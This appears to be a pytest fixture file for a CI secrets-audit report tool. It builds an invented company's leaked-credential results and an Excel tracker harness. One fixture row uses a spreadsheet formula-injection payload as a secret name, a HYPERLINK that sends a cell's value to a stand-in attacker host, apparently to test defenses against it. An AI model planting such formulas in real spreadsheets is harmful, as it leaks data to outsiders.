"""An invented company's results, and the tools the report's tests share."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import dataclass, replace
from datetime import UTC, date, datetime, timedelta
from itertools import cycle
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from auditor.models import (
    AccessKey,
    Assessment,
    Candidate,
    Capability,
    CapabilityName,
    Classification,
    Confidence,
    Coverage,
    Credential,
    Evidence,
    Exposure,
    FirstSeen,
    Gap,
    HumanEdit,
    Identity,
    Incident,
    Known,
    Match,
    NoMatch,
    Part,
    Place,
    Reason,
    Resolution,
    Results,
    Role,
    Rotate,
    RunInfo,
    Scope,
    ScopeKind,
    Secret,
    Severity,
    Unknown,
    secret_id,
)
from auditor.report import tracker
from auditor.report.rows import Options

NOW = datetime(2023, 1, 20, 9, 30, tzinfo=UTC)
DENIED = Gap(
    "environment variables of context data-science",
    "403 Forbidden",
    "give the token's user access to the context, or use a token of an organization admin",
    "circleci",
    ("ctx-data-science",),
)
NO_SSO = Gap(
    "permission sets of account 210987654321",
    "AccessDenied: sso:ListPermissionSets",
    "grant sso:ListPermissionSets to the audit role",
    "aws 210987654321",
    ("210987654321",),
)

SEVERITIES = {
    Severity.CRITICAL: (92, Rotate.NOW, "make a new key, store it, delete the old one"),
    Severity.UNKNOWN: (70, Rotate.CHECK, "find out whose it is: see sheet Gaps"),
    Severity.HIGH: (66, Rotate.ROTATE, "rotate it within the days allowed"),
    Severity.MEDIUM: (41, Rotate.OIDC, "let the pipeline assume the role by OIDC instead"),
    Severity.LOW: (12, Rotate.REMOVE, "take it out of the CI system: nothing uses it"),
    Severity.NONE: (0, Rotate.NOTHING, "nothing to do"),
}

# name, scope kind, scope, severity, kind, identity, why
ROWS = (
    ("AWS_ACCESS_KEY_ID", "context", "deploy-production", "CRITICAL", "aws-access-key", "ci-admin"),
    (
        "AWS_SECRET_ACCESS_KEY",
        "context",
        "deploy-production",
        "CRITICAL",
        "aws-access-key",
        "ci-admin",
    ),
    (
        "TERRAFORM_AWS_SECRET_ACCESS_KEY",
        "context",
        "platform",
        "CRITICAL",
        "aws-access-key",
        "terraform",
    ),
    (
        "AWS_SECRET_ACCESS_KEY",
        "project",
        "acme/storefront-with-a-rather-long-repository-name",
        "CRITICAL",
        "aws-access-key",
        "terraform",
    ),
    ("GITHUB_TOKEN", "context", "release", "HIGH", "github-token", ""),
    ("NPM_TOKEN", "context", "release", "HIGH", "npm-token", ""),
    ("DATABASE_URL", "project", "acme/billing", "HIGH", "database-url", ""),
    (
        "AWS_SECRET_ACCESS_KEY",
        "project",
        "acme/billing",
        "HIGH",
        "aws-access-key",
        "billing-backup",
    ),
    ("DOCKERHUB_PASSWORD", "context", "docker", "HIGH", "docker-password", ""),
    ("SIGNING_KEY_PASSPHRASE", "project", "acme/mobile", "UNKNOWN", "generic", ""),
    ("GCP_SERVICE_KEY", "context", "analytics", "UNKNOWN", "gcp-service-account-key", ""),
    ("AWS_SECRET_ACCESS_KEY", "context", "sandbox", "UNKNOWN", "aws-access-key", "?"),
    ("SLACK_WEBHOOK_URL", "context", "notifications", "MEDIUM", "slack-webhook", ""),
    ("SENTRY_AUTH_TOKEN", "project", "acme/storefront", "MEDIUM", "sentry-token", ""),
    ("AWS_SECRET_ACCESS_KEY", "project", "acme/docs", "MEDIUM", "aws-access-key", "docs-deploy"),
    ("CODECOV_TOKEN", "project", "acme/storefront", "LOW", "codecov-token", ""),
    ("COVERALLS_TOKEN", "project", "acme/billing", "LOW", "coveralls-token", ""),
    ("AWS_DEFAULT_REGION", "context", "deploy-production", "NONE", "aws-region", ""),
    ("NODE_ENV", "project", "acme/storefront", "NONE", "config", ""),
    (
        '=HYPERLINK("https://evil.example/?"&A2,"click")',
        "project",
        "acme/fork-me",
        "UNKNOWN",
        "generic",
        "",
    ),
)

WHY = {
    Severity.CRITICAL: (
        Reason(50, "its identity is an administrator of the production account"),
        Reason(25, "any project of the organization may use the context"),
        Reason(17, "it was not rewritten since before the incident"),
    ),
    Severity.UNKNOWN: (Reason(70, "what it can do could not be read"),),
    Severity.HIGH: (
        Reason(45, "it can publish what other teams install"),
        Reason(21, "it was not rewritten since before the incident"),
    ),
    Severity.MEDIUM: (Reason(30, "it can write to one system"), Reason(11, "14 projects use it")),
    Severity.LOW: (Reason(12, "it can upload reports, nothing else"),),
    Severity.NONE: (Reason(0, "its name says configuration"),),
}


@dataclass(frozen=True)
class Entry:
    """Everything about one entry, before it is spread over the fields of Results."""

    secret: Secret
    classification: Classification
    assessment: Assessment


def entry(name: str, kind: str, scope: str, severity: str, what: str, day: int) -> Entry:
    place = Scope(
        ScopeKind(kind), f"{'ctx' if kind == 'context' else 'prj'}-{scope}", scope, "acme"
    )
    store = f"{kind} variable"
    written = NOW - timedelta(days=day * 17 + 3)
    made = Secret(
        id=secret_id("circleci", store, place.id, name),
        source="circleci",
        store=store,
        scope=place,
        name=name,
        created=written - timedelta(days=100),
        updated=written if kind == "context" else None,
        tail=None,
        exposure=Exposure(
            Known(kind == "context"), Known(14 if kind == "context" else 1), Known(False)
        ),
        url="https://app.circleci.com/settings/organization/circleci/acme/contexts",
    )
    rank = Severity[severity]
    score, rotate, advice = SEVERITIES[rank]
    role = Role.CONFIG if rank is Severity.NONE else Role.SECRET
    return Entry(
        made,
        Classification(
            made.id, role, what.split("-", maxsplit=1)[0], what, "", "", "name", Confidence.HIGH
        ),
        Assessment(
            made.id, rank, max(0, score - day % 9), WHY[rank], Confidence.HIGH, rotate, advice
        ),
    )


def identity(name: str) -> Identity:
    key = AccessKey(
        "AKIAIOSFODNN7EXA****", "active", NOW - timedelta(days=700), Known(NOW - timedelta(days=1))
    )
    return Identity(
        f"arn:aws:iam::123456789012:user/{name}",
        "aws",
        "123456789012",
        name,
        "user",
        NOW - timedelta(days=800),
        "active",
        (key,),
        f"https://console.aws.amazon.com/iam/home#/users/details/{name}",
    )


def capability(
    who: Identity, name: CapabilityName, *path: str, limited: bool = False
) -> Capability:
    return Capability(who.id, name, path, ("iam:*", "s3:*"), ("*",), limited)


def resolution(who: Identity) -> Resolution:
    found = {
        "ci-admin": (
            capability(
                who, CapabilityName.ADMIN, "user ci-admin", "group Admins", "AdministratorAccess"
            ),
        ),
        "terraform": (
            capability(
                who, CapabilityName.ESCALATE, "user terraform", "iam:PassRole", "role deploy-all"
            ),
            capability(who, CapabilityName.READ_SECRETS, "policy tf-state"),
        ),
        "billing-backup": (
            capability(who, CapabilityName.READ_DATA, "policy backup", limited=True),
        ),
    }.get(who.name, (capability(who, CapabilityName.DEPLOY, "policy docs", limited=True),))
    return Resolution(who.id, (), found, (NO_SSO,) if who.name == "terraform" else ())


def company(copies: int = 3) -> Results:
    entries = [
        entry(name if copy == 0 else f"{name}_{copy}", kind, scope, severity, what, number + copy)
        for copy in range(copies)
        for number, (name, kind, scope, severity, what, _) in enumerate(ROWS)
    ]
    people = {who: identity(who) for *_, who in ROWS if who not in ("", "?")}
    credentials, matches, unmatched = [], [], []
    for made, (*_, who) in zip(entries, cycle(ROWS), strict=False):
        if not who:
            continue
        id_ = f"C-{made.secret.id}"
        part = Part("secret", made.secret.id)
        credentials.append(
            Credential(id_, "aws-access-key", "aws", "aws", made.secret.scope, "", (part,))
        )
        facts = (Evidence("the tail fits exactly one key", "iam:ListAccessKeys"),)
        if who == "?":
            unmatched.append(NoMatch(id_, False, NO_SSO, facts))
        else:
            best = Candidate(people[who].id, "AKIAIOSFODNN7EXA****", Confidence.HIGH, facts)
            rest = (
                (Candidate(people["docs-deploy"].id, "", Confidence.LOW, ()),)
                if who == "billing-backup"
                else ()
            )
            matches.append(Match(id_, best, rest))
    refused = Scope(ScopeKind.CONTEXT, "ctx-data-science", "data-science", "acme")
    return Results(
        run=RunInfo(
            "f3a91c",
            NOW,
            "0.1.0",
            "CircleCI organization acme; AWS account 123456789012",
            Incident("circleci-2023-01", "CircleCI security incident of 4 January 2023", NOW, NOW),
        ),
        places=(Place(refused, ("contexts",), Unknown(DENIED)),),
        secrets=tuple(made.secret for made in entries),
        classifications=tuple(made.classification for made in entries),
        credentials=tuple(credentials),
        identities=tuple(people.values()),
        matches=tuple(matches),
        unmatched=tuple(unmatched),
        resolutions=tuple(resolution(who) for who in people.values()),
        assessments=tuple(made.assessment for made in entries),
        coverage=(
            Coverage("circleci", "contexts", 31, 34, "3 refused"),
            Coverage("circleci", "projects", 212, 212),
            Coverage("aws 123456789012", "users", 48, 48),
        ),
        gaps=(DENIED, NO_SSO),
        history=tuple(
            FirstSeen(made.secret.id, NOW - timedelta(days=number % 25), NOW)
            for number, made in enumerate(entries)
        ),
        edits=edits(entries),
    )


def edits(entries: list[Entry]) -> Mapping[str, HumanEdit]:
    written = (
        HumanEdit("Rotated", "Ana Souza", date(2023, 1, 9), "SEC-101", "new key since 8 January"),
        HumanEdit(
            "In progress", "Jörg Weiß", date(2023, 1, 12), "SEC-102", "waits for the release train"
        ),
        HumanEdit(
            "Accepted risk",
            "Ana Souza",
            date(2023, 2, 1),
            "SEC-103",
            "sandbox only",
            date(2023, 3, 31),
        ),
        HumanEdit(
            "Accepted risk",
            "Mei Lin",
            date(2023, 1, 10),
            "SEC-104",
            "until the move",
            date(2023, 1, 15),
        ),
        HumanEdit("Open", "Jörg Weiß", date(2023, 1, 11), "SEC-105"),
        HumanEdit("Waiting for vendor", "Mei Lin", date(2023, 1, 30), "", "ticket with the vendor"),
    )
    return {made.secret.id: edit for made, edit in zip(entries[::3], cycle(written), strict=False)}


@pytest.fixture
def now() -> datetime:
    return NOW


@pytest.fixture
def results() -> Results:
    """Sixty entries of every severity, four identities, two gaps, some edits."""
    return company()


@pytest.fixture
def with_names() -> Callable[..., Results]:
    """Return results of one entry for each name given, all critical."""

    def make(*names: str) -> Results:
        entries = [entry(name, "project", "acme/x", "CRITICAL", "generic", 1) for name in names]
        return replace(
            company(1),
            secrets=tuple(made.secret for made in entries),
            classifications=tuple(made.classification for made in entries),
            assessments=tuple(made.assessment for made in entries),
            credentials=(),
            matches=(),
            unmatched=(),
            edits={},
        )

    return make


class Lab:
    """A folder with a tracker: runs write it, people change it, the next run reads it."""

    def __init__(self, folder: Path) -> None:
        self.path = folder / "tracker.xlsx"

    def run(self, results: Results, now: datetime = NOW, beside: Path | None = None) -> Path:
        """Do what a run does at its beginning and its end."""
        previous = tracker.read(self.path)
        options = Options(now=now)
        handed_on = replace(results, edits={**results.edits, **previous.edits})
        return tracker.write(handed_on, self.path, previous, options, beside=beside)

    def change(self, change: Callable[[Workbook], None]) -> None:
        """Change the tracker as a person would."""
        book = load_workbook(self.path)
        change(book)
        book.save(self.path)

    def set(self, secret_id: str, header: str, value: Any) -> None:
        """Write into one cell of the sheet Secrets."""

        def change(book: Workbook) -> None:
            sheet: Worksheet = book["Secrets"]
            row = next(cell.row for cell in sheet["A"] if cell.value == secret_id)
            column = next(cell.column for cell in sheet[1] if cell.value == header)
            sheet.cell(row, column).value = value

        self.change(change)

    def rows(self, title: str = "Secrets") -> list[dict[str, Any]]:
        """Return the rows of a sheet, by header."""
        sheet = load_workbook(self.path)[title]
        headers, *rows = sheet.iter_rows(values_only=True)
        names = [str(header) for header in headers]
        return [dict(zip(names, row, strict=True)) for row in rows]

    def row(self, secret_id: str) -> dict[str, Any]:
        """Return one row of the sheet Secrets."""
        return next(row for row in self.rows() if row["Secret ID"] == secret_id)


@pytest.fixture
def lab(tmp_path: Path) -> Lab:
    return Lab(tmp_path)
